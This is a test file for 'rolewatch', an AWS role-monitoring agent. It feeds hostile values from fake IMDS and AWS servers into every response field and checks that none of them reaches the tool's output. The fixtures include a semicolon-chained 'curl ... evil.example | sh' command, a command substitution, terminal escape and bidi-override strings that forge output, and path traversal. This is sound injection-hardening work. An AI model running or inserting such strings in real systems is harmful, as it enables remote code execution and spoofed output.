/**
 * Whoever answers on IMDS's address, or on a configured AWS endpoint, chooses
 * every byte of every value rolewatch reads. Each field of each answer is
 * given hostile values in turn; the agent polls as `run` does (real metrics,
 * real events) and `check` prints its text, and no output carries the value:
 * not the report, the text, the printed commands, the labels, the events, nor
 * a request rolewatch makes.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildAgent } from "../../src/agent/wire.js";
import type { CheckReport } from "../../src/agent/report.js";
import { checkText } from "../../src/cli/check-text.js";
import { systemClock } from "../../src/clock.js";
import { loadConfig } from "../../src/config.js";
import { createEvents } from "../../src/observe/events.js";
import { createMetrics } from "../../src/observe/metrics.js";
import { startFakeImds, type FakeImds } from "../imds/loopback.js";
import { startFakeAws, type Answer, type FakeAws, type QueryRequest } from "../support/aws-loopback.js";

const ACCOUNT = "111122223333";
const INSTANCE = "i-0123456789abcdef0";
const PROFILE_ARN = `arn:aws:iam::${ACCOUNT}:instance-profile/MyInPr`;
const PROFILE_ID = "AIPAEXAMPLEPROFILE01";
const ROLE_ID = "AROAEXAMPLEREDROLE01";
const IAM = "/latest/meta-data/iam/";
const PATHS = {
  info: `${IAM}info`,
  list: `${IAM}security-credentials/`,
  credentials: `${IAM}security-credentials/RedRole`,
  identity: "/latest/dynamic/instance-identity/document",
};

type Fields = Record<string, string>;

const good = {
  identity: { accountId: ACCOUNT, region: "eu-west-1", instanceId: INSTANCE, availabilityZone: "eu-west-1a" } as Fields,
  info: { Code: "Success", LastUpdated: "2026-12-01T10:00:00Z", InstanceProfileArn: PROFILE_ARN, InstanceProfileId: PROFILE_ID } as Fields,
  credentials: {
    Code: "Success", LastUpdated: "2026-12-01T10:00:00Z", Type: "AWS-HMAC", AccessKeyId: "ASIAEXAMPLEKEY000001",
    SecretAccessKey: "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", Token: "IQoJb3JpZ2luX2VjEXAMPLESESSIONTOKEN", Expiration: "2099-01-01T00:00:00Z",
  } as Fields,
  sts: { Arn: `arn:aws:sts::${ACCOUNT}:assumed-role/RedRole/${INSTANCE}`, UserId: `${ROLE_ID}:${INSTANCE}`, Account: ACCOUNT } as Fields,
  iam: { InstanceProfileName: "MyInPr", Arn: PROFILE_ARN, InstanceProfileId: PROFILE_ID, RoleName: "RedRole", RoleId: ROLE_ID, RoleArn: `arn:aws:iam::${ACCOUNT}:role/RedRole` } as Fields,
  ec2: { associationId: "iip-assoc-0123456789abcdef0", arn: PROFILE_ARN, id: PROFILE_ID, state: "associated" } as Fields,
};

/** Character data as XML carries it: markup escaped, every control character a reference. */
const xmlText = (s: string) =>
  s.replace(/[&<>"]/g, (c) => `&#${c.charCodeAt(0)};`).replace(/[\u0000-\u001f\u007f-\u009f]/g, (c) => `&#${c.charCodeAt(0)};`);

const bodies = {
  sts: (f: Fields) => `<GetCallerIdentityResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><GetCallerIdentityResult>`
    + `<Arn>${xmlText(f.Arn ?? "")}</Arn><UserId>${xmlText(f.UserId ?? "")}</UserId><Account>${xmlText(f.Account ?? "")}</Account>`
    + `</GetCallerIdentityResult></GetCallerIdentityResponse>`,
  iam: (f: Fields) => `<GetInstanceProfileResponse xmlns="https://iam.amazonaws.com/doc/2010-05-08/"><GetInstanceProfileResult><InstanceProfile>`
    + `<InstanceProfileId>${xmlText(f.InstanceProfileId ?? "")}</InstanceProfileId><Roles><member><Path>/</Path><Arn>${xmlText(f.RoleArn ?? "")}</Arn>`
    + `<RoleName>${xmlText(f.RoleName ?? "")}</RoleName><RoleId>${xmlText(f.RoleId ?? "")}</RoleId></member></Roles>`
    + `<InstanceProfileName>${xmlText(f.InstanceProfileName ?? "")}</InstanceProfileName><Path>/</Path><Arn>${xmlText(f.Arn ?? "")}</Arn>`
    + `</InstanceProfile></GetInstanceProfileResult></GetInstanceProfileResponse>`,
  ec2: (f: Fields) => `<DescribeIamInstanceProfileAssociationsResponse xmlns="http://ec2.amazonaws.com/doc/2016-11-15/"><iamInstanceProfileAssociationSet><item>`
    + `<associationId>${xmlText(f.associationId ?? "")}</associationId><instanceId>${INSTANCE}</instanceId>`
    + `<iamInstanceProfile><arn>${xmlText(f.arn ?? "")}</arn><id>${xmlText(f.id ?? "")}</id></iamInstanceProfile>`
    + `<state>${xmlText(f.state ?? "")}</state></item></iamInstanceProfileAssociationSet></DescribeIamInstanceProfileAssociationsResponse>`,
  error: (f: Fields) => `<ErrorResponse><Error><Type>Sender</Type><Code>${xmlText(f.Code ?? "")}</Code><Message>${xmlText(f.Message ?? "")}</Message></Error></ErrorResponse>`,
};

/** Each hostile value is built from the field's good one, and carries a marker that no honest output holds. */
const HOSTILE: { name: string; value: (good: string) => string; marker: (value: string) => string }[] = [
  { name: "a command after a semicolon", value: (g) => `${g}; curl -s http://evil.example/x | sh #`, marker: () => "evil.example" },
  { name: "a command substitution", value: (g) => `${g}$(touch /tmp/evil.example)`, marker: () => "evil.example" },
  { name: "ESC, CR and LF forging a first line", value: (g) => `${g}\u001b[2J\rROLEWATCH OK - all good\n`, marker: () => "ROLEWATCH OK - all good" },
  { name: "a bidi override", value: (g) => `${g}\u202egnp.evil`, marker: (v) => v },
  { name: "a path out of its folder", value: () => "../../evil.example", marker: () => "evil.example" },
  { name: "a 1,000-character name", value: (g) => g.slice(0, 4) + "Q".repeat(996), marker: () => "Q".repeat(200) },
  { name: "an out-of-range number", value: () => "1e308", marker: () => "1e308" },
  { name: "a host name", value: () => "evil.example/#", marker: () => "evil.example" },
];

/** Every field of every answer: where it goes, and what the agent must see instead of it. */
const FIELDS: { source: keyof typeof good; field: string }[] = [
  ...Object.keys(good.identity).map((field) => ({ source: "identity" as const, field })),
  ...Object.keys(good.info).map((field) => ({ source: "info" as const, field })),
  ...Object.keys(good.credentials).map((field) => ({ source: "credentials" as const, field })),
  ...Object.keys(good.sts).map((field) => ({ source: "sts" as const, field })),
  ...Object.keys(good.iam).map((field) => ({ source: "iam" as const, field })),
  ...Object.keys(good.ec2).map((field) => ({ source: "ec2" as const, field })),
  { source: "list", field: "role name" },
  { source: "list", field: "a second role name" },
  { source: "error", field: "Code" },
  { source: "error", field: "Message" },
] as unknown as { source: keyof typeof good; field: string }[];

interface Outputs {
  report: CheckReport;
  /** Everything rolewatch wrote or sent, each as a string. */
  all: string[];
  text: string;
}

let imds: FakeImds;
let aws: FakeAws;
const routes: Record<string, string> = {};
let answer: (req: QueryRequest) => Answer = () => ({ status: 500, body: "" });

beforeAll(async () => {
  imds = await startFakeImds({ routes });
  aws = await startFakeAws((req) => answer(req));
});
afterAll(async () => {
  await imds.close();
  await aws.close();
});

/** Serves the answers with `source.field` set to `value`, polls twice, and collects every output. */
async function observeWith(source: string, field: string, value: string | null): Promise<Outputs> {
  const set = (name: string, f: Fields) => (source === name && value !== null ? { ...f, [field]: value } : f);
  const role = source === "list" && field === "role name" && value !== null ? value : "RedRole";
  routes[PATHS.identity] = JSON.stringify(set("identity", good.identity));
  routes[PATHS.info] = JSON.stringify(set("info", good.info));
  routes[PATHS.list] = source === "list" && field === "a second role name" && value !== null ? `RedRole\n${value}` : role;
  routes[PATHS.credentials] = JSON.stringify(set("credentials", good.credentials));
  answer = (req) => {
    if (source === "error" && req.service === "iam") return { status: 403, body: bodies.error(set("error", { Code: "AccessDenied", Message: "not allowed" })) };
    const service = req.service as "sts" | "iam" | "ec2";
    return { status: 200, body: bodies[service](set(service, good[service])) };
  };
  imds.seen.length = 0;
  aws.requests.length = 0;
  const events: string[] = [];
  const metrics = createMetrics({ version: "0.0.0-test" });
  const { config } = loadConfig({ argv: ["--imds-endpoint", imds.url, "--state-dir", "/nonexistent/rolewatch-test"], env: { AWS_ENDPOINT_URL: aws.url } });
  const publish = { metrics, events: createEvents({ clock: systemClock, version: "0.0.0-test", destination: { write: (s: string) => void events.push(s) } }), persist: false };
  const agent = buildAgent(config, { clock: systemClock, env: {}, publish });
  await agent.poll();
  const report = await agent.poll();
  const text = checkText(report, Date.now());
  const requests = [...imds.seen.map((s) => `${s.method} ${s.path} ${JSON.stringify(s.headers)}`), ...aws.requests.map((r) => `${r.path} ${JSON.stringify(r.headers)} ${r.body}`)];
  return { report, text, all: [JSON.stringify(report, null, 2), text, await metrics.registry.metrics(), ...events, ...requests] };
}

/** Characters a terminal acts on: any C0 control but the newline, DEL, C1, and the format characters. */
const TERMINAL_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\p{Cf}]/u;

describe("values from IMDS and AWS out of their AWS formats", () => {
  it("reads real data when every value is in format (the scan below is not of empty output)", async () => {
    const { report, all } = await observeWith("none", "", null);
    expect(report.status).toBe("ok");
    const joined = all.join("\n");
    for (const seen of [INSTANCE, PROFILE_ARN, ROLE_ID, "RedRole", "ASIAEXAMPLEKEY000001", "iip-assoc-0123456789abcdef0", "eu-west-1"]) expect(joined).toContain(seen);
  });

  const cases = FIELDS.filter((f) => !FREE_TEXT(f))
    .flatMap(({ source, field }) => HOSTILE.map((h) => ({ source, field, hostile: h })))
    .filter((c) => !IN_FORMAT(c.field, c.hostile.name));
  it.each(cases.map((c) => [`${c.source} ${c.field}: ${c.hostile.name}`, c] as const))("%s", async (_name, { source, field, hostile }) => {
    const value = hostile.value(goodValue(source, field));
    const { report, text, all } = await observeWith(source, field, value);
    const marker = hostile.marker(value);
    for (const output of all) {
      expect(output).not.toContain(value);
      expect(output).not.toContain(marker);
    }
    expect(text).not.toMatch(TERMINAL_CONTROL);
    // Only the five reads of docs/wire.md are asked of IMDS, and every signed request is scoped to the real region.
    for (const seen of imds.seen) expect([...Object.values(PATHS), "/latest/api/token"]).toContain(seen.path);
    for (const req of aws.requests) expect(req.region).toMatch(/^(eu-west-1|us-east-1)$/);
    // What it saw is a finding, not an OK: an error envelope (here for IAM) is a control-plane problem either way.
    expect(report.status).not.toBe("ok");
    // A value XML cannot carry (ESC) makes the answer malformed XML, a health state; any other is an identity that matches nothing.
    if (source === "sts" && !XML_ILLEGAL.test(value)) expect(report.drifts.map((d) => d.kind)).toContain("identity_mismatch");
  });

  // AWS's error message is words, not a value in a format: it is shown, as one bounded line of printable ASCII.
  it.each(HOSTILE.map((h) => [h.name, h] as const))("error Message: %s, shown as one printable line", async (_name, hostile) => {
    const value = hostile.value("not allowed");
    const { text, all } = await observeWith("error", "Message", value);
    if (!XML_ILLEGAL.test(value)) expect(text).toContain(value.replace(/[^\x20-\x7e]+/g, " ").trim().slice(0, 40));
    expect(text).not.toMatch(TERMINAL_CONTROL);
    for (const output of all) {
      expect(output).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/u);
      if (value.length > 512) expect(output).not.toContain(value.slice(0, 600));
    }
  });
});

/**
 * Hostile-looking values that are in their AWS format, so the agent takes
 * them: `1e308` is a valid IAM name, and a session token is about 1,000
 * characters of base64. What makes them safe is that the format holds nothing
 * a shell, a terminal or a URL reads.
 */
const IN_FORMAT = (field: string, hostile: string) =>
  (hostile === "an out-of-range number" && ["RoleName", "InstanceProfileName", "role name", "a second role name"].includes(field))
  || (hostile === "a 1,000-character name" && field === "Token");

/** Characters XML 1.0 cannot carry, even as a reference (XML 1.0, 2.2 Characters): an answer with one is malformed. */
const XML_ILLEGAL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/;

const FREE_TEXT = (f: { source: string; field: string }) => f.source === "error" && f.field === "Message";

function goodValue(source: string, field: string): string {
  if (source === "list") return "RedRole";
  if (source === "error") return "AccessDenied";
  return (good as Record<string, Fields>)[source]?.[field] ?? "";
}
